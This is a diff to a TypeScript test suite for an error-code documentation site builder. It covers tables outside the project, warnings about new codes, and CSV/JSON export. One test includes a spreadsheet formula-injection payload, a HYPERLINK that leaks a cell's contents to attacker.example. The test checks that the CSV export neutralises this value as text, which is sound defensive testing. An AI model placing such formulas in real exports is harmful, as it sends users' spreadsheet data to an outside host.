@@ -92,16 +92,29 @@ describe('a build from the real table with one new server code, kept outside the
 	});
 });
 
-describe('a build from a table that gained one code and lost another', () => {
+describe('a build from tables a maintainer edited in another checkout: a code gained, one lost, formulas in messages', () => {
+	// A maintainer keeping the table in another checkout passes absolute paths outside this one.
+	const elsewhere = mkdtempSync(join(tmpdir(), 'other-checkout-'));
+	const table = join(elsewhere, 'errors.md');
+	const categories = join(elsewhere, 'categories.yaml');
 	let build: Build;
 	beforeAll(() => {
+		copyFileSync('tests/fixtures/tables/maintainer-edits.md', table);
+		copyFileSync('tests/fixtures/categories/small.yaml', categories);
 		build = buildWith({
-			ERROR_TABLE: 'tests/fixtures/tables/new-code-without-prose.md',
-			ERROR_CATEGORIES: 'tests/fixtures/categories/small.yaml',
+			ERROR_TABLE: table,
+			ERROR_CATEGORIES: categories,
 			ERROR_RETIRED: 'tests/fixtures/retired/898002.yaml',
 			REPO_URL: 'https://github.com/example/im-error-codes.git',
 		});
 	}, BUILD_TIMEOUT);
+
+	it('reads the table and its categories from absolute paths outside the project', () => {
+		expect(relative(process.cwd(), table)).toMatch(/^\.\.\//);
+		const { status, output } = build;
+		expect(status, output).toBe(0);
+		expect(output).toContain(`4 codes loaded from ${table}`);
+	});
 
 	it('with REPO_URL, links each code page to its page text and to a new issue about it', () => {
 		const links = (path: string) => {
@@ -124,11 +137,10 @@ describe('a build from a table that gained one code and lost another', () => {
 		expect(new URL(zh['报告此页的问题']!).searchParams.get('body')).toContain('错误码：898010');
 	});
 
-	it('publishes the new code from the table alone and warns, naming it', () => {
-		const { status, output, published, outDir } = build;
-		expect(status, output).toBe(0);
-		expect(output).toMatch(/1 codes have no zh-cn page text yet and are published from the table alone: 898010\b/);
-		expect(output).toMatch(/1 codes have no en page text yet .*: 898010\b/);
+	it('publishes the new codes from the table alone and warns, naming them', () => {
+		const { output, published, outDir } = build;
+		expect(output).toMatch(/3 codes have no zh-cn page text yet and are published from the table alone: 898010, 898011, 898012\b/);
+		expect(output).toMatch(/3 codes have no en page text yet .*: 898010, 898011, 898012\b/);
 		expect(published).toEqual(expect.arrayContaining(['codes/898010/index.html', 'en/codes/898010/index.html']));
 		const page = readFileSync(join(outDir, 'en/codes/898010/index.html'), 'utf-8');
 		expect(page).toContain('Token expired');
@@ -149,42 +161,21 @@ describe('a build from a table that gained one code and lost another', () => {
 	it('keeps the removed code findable: in the code map and in the full-text index', () => {
 		const { outDir } = build;
 		const map = JSON.parse(readFileSync(join(outDir, 'en/search/codes.json'), 'utf-8')) as { codes: [number, number, string][] };
-		expect(map.codes.map(([code]) => code)).toEqual([0, 898002, 898010]);
+		expect(map.codes.map(([code]) => code)).toEqual([0, 898002, 898010, 898011, 898012]);
 		const entry = JSON.parse(readFileSync(join(outDir, 'pagefind/pagefind-entry.json'), 'utf-8')) as {
 			languages: Record<string, { page_count: number }>;
 		};
-		expect(entry.languages['en']?.page_count).toBe(3);
-	});
-});
-
-describe('a build from a table kept outside the project, whose message is a spreadsheet formula', () => {
-	// A maintainer keeping the table in another checkout passes absolute paths outside this one.
-	const elsewhere = mkdtempSync(join(tmpdir(), 'other-checkout-'));
-	const table = join(elsewhere, 'errors.md');
-	const categories = join(elsewhere, 'categories.yaml');
-	let build: Build;
-	beforeAll(() => {
-		copyFileSync('tests/fixtures/tables/formula-message.md', table);
-		copyFileSync('tests/fixtures/categories/small.yaml', categories);
-		build = buildWith({ ERROR_TABLE: table, ERROR_CATEGORIES: categories });
-	}, BUILD_TIMEOUT);
-
-	it('reads the table and its categories from absolute paths outside the project', () => {
-		expect(relative(process.cwd(), table)).toMatch(/^\.\.\//);
-		const { status, output, published } = build;
-		expect(status, output).toBe(0);
-		expect(output).toContain(`3 codes loaded from ${table}`);
-		expect(published).toEqual(expect.arrayContaining(['codes/898010/index.html', 'en/codes/898011/index.html']));
+		expect(entry.languages['en']?.page_count).toBe(5);
 	});
 
-	it('hands the formula to spreadsheets as text in codes.csv, and verbatim in codes.json', () => {
+	it('hands the formulas to spreadsheets as text in codes.csv, and verbatim in codes.json', () => {
 		const { outDir } = build;
 		const rows = parseCsv<Record<string, string>>(readFileSync(join(outDir, 'codes.csv'), 'utf-8'), { columns: true, bom: true });
 		const formula = '=HYPERLINK("https://attacker.example/?leak="&A1,"Click for details")';
-		expect(rows.find((r) => r['code'] === '898010')?.['message']).toBe(`'${formula}`);
-		expect(rows.find((r) => r['code'] === '898011')?.['message']).toBe("'-1 retries left");
+		expect(rows.find((r) => r['code'] === '898011')?.['message']).toBe(`'${formula}`);
+		expect(rows.find((r) => r['code'] === '898012')?.['message']).toBe("'-1 retries left");
 		expect(rows.find((r) => r['code'] === '0')?.['message']).toBe('success');
 		const exported = JSON.parse(readFileSync(join(outDir, 'codes.json'), 'utf-8')) as { codes: { code: number; message: string }[] };
-		expect(exported.codes.find((c) => c.code === 898010)?.message).toBe(formula);
+		expect(exported.codes.find((c) => c.code === 898011)?.message).toBe(formula);
 	});
 });
